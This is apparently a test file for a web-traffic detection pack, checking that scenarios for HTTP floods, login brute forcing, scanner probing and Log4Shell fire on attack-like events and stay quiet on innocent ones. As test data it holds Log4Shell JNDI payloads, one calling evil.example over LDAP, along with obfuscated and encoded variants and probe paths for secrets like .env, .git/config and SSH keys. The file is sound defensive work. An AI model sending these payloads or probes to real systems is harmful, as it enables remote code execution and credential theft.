/** The built-in pack: what each scenario finds, what just misses, and what is innocent. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { BUILT_IN } from '#scenarios/index.ts';
import { event, START_MS, type TestEvent } from '../support/batches.ts';
import { TestShards } from '../support/shards.ts';

interface Case {
  readonly name: string;
  readonly events: readonly TestEvent[];
  /** Keys of the detections, their parts joined; none unless given. */
  readonly finds?: readonly string[];
  /** Offences of a request that another site's page may have made a browser send. */
  readonly forgeable?: boolean;
}

const CLIENT = '198.51.100.7';
const DAY_MS = 24 * 3_600_000;

/** So many events, `everyMs` apart. */
function times(count: number, everyMs: number, make: (i: number) => Partial<TestEvent>): TestEvent[] {
  return Array.from({ length: count }, (_, i) => event({ atMs: i * everyMs, ...make(i) }));
}

const login = (options: Partial<TestEvent> = {}) => ({
  method: 'POST',
  path: '/login',
  status: 401,
  ...options,
});
const probes = (...paths: string[]) => times(paths.length, 1000, (i) => ({ path: paths[i], status: 404 }));
const one = (options: Partial<TestEvent>) => [event(options)];

const CASES: Readonly<Record<string, readonly Case[]>> = {
  'http-flood': [
    {
      name: '151 pages within ten seconds',
      events: times(151, 50, (i) => ({ path: `/p${i}` })),
      finds: [`${CLIENT} shop.example`],
    },
    { name: '150 pages within ten seconds', events: times(150, 50, (i) => ({ path: `/p${i}` })) },
    { name: 'pages at a rate just below', events: times(400, 70, () => ({})) },
    { name: 'a page with very many images', events: times(400, 5, (i) => ({ path: `/i/${i}.PNG` })) },
    {
      name: 'two hosts behind one address',
      events: times(300, 25, (i) => ({ host: i % 2 ? 'a.example' : 'b.example' })),
    },
    { name: 'many clients', events: times(400, 5, (i) => ({ from: `203.0.113.${i % 200}` })) },
    {
      name: 'one IPv6 client',
      events: times(151, 10, () => ({ from: '2001:db8::7' })),
      finds: ['2001:db8::7 shop.example'],
    },
  ],
  'login-bruteforce': [
    {
      name: 'six failures in a row',
      events: times(6, 500, () => login()),
      finds: [`${CLIENT} shop.example`],
    },
    { name: 'five failures in a row', events: times(5, 500, () => login()) },
    { name: 'a failure every ten seconds', events: times(60, 10_000, () => login()) },
    {
      name: 'a failure every nine seconds, for long enough',
      events: times(60, 9000, () => login()),
      finds: [`${CLIENT} shop.example`],
    },
    {
      name: 'an API and its statuses',
      events: times(6, 100, (i) => login({ path: '/api/v1/sessions', status: [401, 403, 422][i % 3] })),
      finds: [`${CLIENT} shop.example`],
    },
    {
      name: 'a path in disguise',
      events: times(6, 100, () => login({ path: '/%6Cogin/' })),
      finds: [`${CLIENT} shop.example`],
    },
    {
      name: 'failures at WordPress, which answers them with 200',
      events: times(6, 500, () => login({ path: '/blog/wp-login.php', status: 200 })),
      finds: [`${CLIENT} shop.example`],
    },
    {
      name: 'successes at WordPress',
      events: times(50, 500, () => login({ path: '/wp-login.php', status: 302 })),
    },
    { name: 'successes', events: times(50, 100, () => login({ status: 302 })) },
    { name: 'the form being looked at', events: times(50, 100, () => login({ method: 'GET' })) },
    {
      name: 'other pages that want a login',
      events: times(50, 100, () => login({ path: '/blog/login-tips' })),
    },
    {
      name: 'users behind one address at two hosts',
      events: times(8, 100, (i) => login({ host: i % 2 ? 'a.example' : 'b.example' })),
    },
  ],
  'login-distributed': [
    {
      name: 'one failure each of 21 clients in ten minutes',
      events: times(21, 28_000, (i) => login({ from: `203.0.${i}.7` })),
      finds: ['shop.example /login'],
    },
    {
      name: 'failures of 20 clients',
      events: times(60, 9000, (i) => login({ from: `203.0.${i % 20}.7` })),
    },
    {
      name: 'failures of 21 clients in more than ten minutes',
      events: times(21, 30_001, (i) => login({ from: `203.0.${i}.7` })),
    },
    {
      name: 'IPv6 clients of one network',
      events: times(21, 1000, (i) => login({ from: `2001:db8::${i}`, status: 403 })),
      finds: ['shop.example /login'],
    },
    {
      name: 'failures at WordPress',
      events: times(30, 1000, (i) => login({ from: `203.0.${i}.7`, path: '/wp-login.php', status: 200 })),
      finds: ['shop.example /wp-login.php'],
    },
    {
      name: 'failures at two hosts and two pages',
      events: times(60, 1000, (i) =>
        login({
          from: `203.0.${i}.7`,
          host: `${i % 2}.example`,
          path: i % 4 < 2 ? '/login' : '/api/login',
        }),
      ),
    },
    {
      name: 'many clients that log in',
      events: times(200, 500, (i) => login({ from: `203.0.${i}.7`, status: 302 })),
    },
    {
      name: 'many clients that look at the form',
      events: times(200, 500, (i) => login({ from: `203.0.${i}.7`, method: 'GET', status: 200 })),
    },
  ],
  'scanner-probing': [
    {
      name: 'four different secrets',
      events: probes('/.env', '/.git/config', '/wp-config.php.bak', '/backup.tar.gz'),
      finds: [CLIENT],
    },
    { name: 'three different secrets', events: probes('/.env', '/.git/config', '/phpinfo.php') },
    { name: 'one secret again and again', events: probes(...Array(50).fill('/.env')) },
    {
      name: 'four in disguise',
      events: probes('/%2eenv', '/%252egit/HEAD', '/.AWS/credentials', '\\.ssh\\id_rsa'),
      finds: [CLIENT],
    },
    {
      name: 'four over more than five minutes',
      events: times(4, 100_001, (i) => ({ path: ['/.env', '/.git/config', '/adminer', '/dump.sql'][i] })),
    },
    {
      name: 'a visitor',
      events: probes(
        '/',
        '/shop',
        '/shop/keyboards',
        '/img/backup.png',
        '/environment',
        '/git-course',
        '/sql',
      ),
    },
    {
      name: 'four consoles that are not there',
      events: probes('/admin/', '/wp-login.php', '/manager/html', '/grafana/login'),
      finds: [CLIENT],
    },
    {
      name: 'the pages of a console that is there',
      events: times(20, 1000, (i) => ({ path: `/wp-admin/page-${i}.php`, status: 200 })),
    },
    {
      name: 'four clients with one secret each',
      events: times(4, 10, (i) => ({
        path: ['/.env', '/.git/', '/adminer', '/id_rsa'][i],
        from: `203.0.113.${i}`,
      })),
    },
  ],
  log4shell: [
    { name: 'in the agent', events: one({ user_agent: '${jndi:ldap://evil.example/a}' }), finds: [CLIENT] },
    {
      name: 'in the query, escaped',
      events: one({ query: 'q=%24%7Bjndi%3Aldap%3A//x%7D' }),
      finds: [CLIENT],
    },
    { name: 'escaped twice', events: one({ path: '/%2524%257bjndi:dns://x}' }), finds: [CLIENT] },
    { name: 'in capitals', events: one({ referer: '${JNDI:RMI://x}' }), finds: [CLIENT] },
    { name: 'nested', events: one({ user_agent: '${${lower:j}ndi:ldap://x}' }), finds: [CLIENT] },
    { name: 'nested in empty defaults', events: one({ user: '${${::-j}${::-n}di:x}' }), finds: [CLIENT] },
    { name: 'in the host', events: one({ host: '${jndi:ldap://x}' }), finds: [CLIENT] },
    {
      name: 'behind a link of another site',
      events: one({ query: '${jndi:x}', referer: 'https://evil.example/' }),
      finds: [CLIENT],
      forgeable: true,
    },
    { name: 'a template', events: one({ query: 'q=${name}' }) },
    { name: 'a word', events: one({ query: 'q=jndi:ldap' }) },
    { name: 'an article about it', events: one({ path: '/blog/jndi-lookup-explained' }) },
  ],
};

describe('the built-in pack', () => {
  it('has cases of each kind for each scenario', () => {
    assert.deepEqual(BUILT_IN.map(({ name }) => name).sort(), Object.keys(CASES).sort());
    for (const cases of Object.values(CASES)) {
      assert.ok(cases.some(({ finds }) => finds) && cases.some(({ finds }) => !finds));
    }
  });

  it('is described and labelled, and enforced when it names somebody', () => {
    for (const { name, description, labels, version, mode, stage, cooldownMs } of BUILT_IN) {
      assert.match(name, /^[a-z0-9]+(-[a-z0-9]+)*$/);
      assert.match(description, /^[A-Z].*\.$/);
      assert.ok(labels.behavior?.length);
      assert.match(version, /^[0-9a-f]{8}$/);
      assert.equal(mode, stage === 'range' ? 'enforce' : 'shadow');
      assert.ok(cooldownMs > 0);
    }
  });
});

for (const [name, cases] of Object.entries(CASES)) {
  describe(name, () => {
    for (const { name: what, events, finds = [], forgeable = false } of cases) {
      it(`${finds.length > 0 ? 'finds' : 'leaves alone'} ${what}`, () => {
        // All scenarios look, so that a case of one is innocent to the others.
        const shards = new TestShards({ scenarios: BUILT_IN });
        const all = [...shards.take(events), ...shards.tellTime(START_MS + DAY_MS)];
        const found = all.filter(({ rev }) => rev === 1);
        assert.deepEqual(
          found.map(({ scenario, key }) => `${scenario}: ${key.map(({ value }) => value).join(' ')}`),
          finds.map((key) => `${name}: ${key}`),
        );
        for (const detection of found) assert.equal(detection.forgeable, forgeable);
      });
    }
  });
}
